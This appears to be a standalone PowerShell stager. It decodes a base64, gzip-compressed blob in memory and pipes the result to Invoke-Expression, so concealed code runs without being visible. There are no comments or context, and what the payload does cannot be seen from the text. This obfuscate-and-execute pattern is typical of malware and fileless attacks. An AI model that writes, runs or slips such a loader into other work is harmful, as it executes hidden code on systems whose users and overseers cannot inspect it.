$i=New-Object System.IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA1NJVrBV8Est1/VPykpNLgEyS/TCU5OcczJT80qsFVSS9Vzyy/Ny8hNTgkuKMvPSNdQzSkoKrPT1E/VSKxJzC3JS9Qv0K/RKKkrUNQH0q+lNTAAAAA=='))
$g=New-Object System.IO.Compression.GzipStream($i,[IO.Compression.CompressionMode]::Decompress)
$o=New-Object System.IO.MemoryStream
$b=New-Object byte[](64)
while($true){$n=$g.Read($b,0,64); if($n -le 0){break}; $o.Write($b,0,$n)}
[Text.Encoding]::UTF8.GetString($o.ToArray())|iex